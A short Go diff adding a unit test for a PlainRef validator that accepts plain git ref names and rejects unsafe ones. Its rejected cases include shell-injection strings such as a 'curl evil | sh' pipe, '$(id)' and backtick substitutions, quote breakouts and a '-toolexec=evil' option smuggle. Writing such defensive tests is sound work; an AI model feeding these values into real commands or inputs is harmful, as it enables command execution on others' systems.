@@ -37,3 +37,15 @@ func TestHistory(t *testing.T) {
 		t.Errorf("%v", err)
 	}
 }
+
+// A stored name of a commit stands in printed commands only if it is one plain word, and no option.
+func TestPlainRef(t *testing.T) {
+	for name, want := range map[string]bool{
+		"v1.2.0": true, "HEAD~3": true, "main^{commit}": true, "origin/feature-x": true, "@": true, "0a1b2c": true,
+		"": false, "--flags=-toolexec=evil": false, "-x": false, "HEAD ./x; curl evil | sh #": false, "$(id)": false, "a`id`": false, "a\nb": false, "x';id;'": false,
+	} {
+		if PlainRef(name) != want {
+			t.Errorf("%q: %v", name, !want)
+		}
+	}
+}
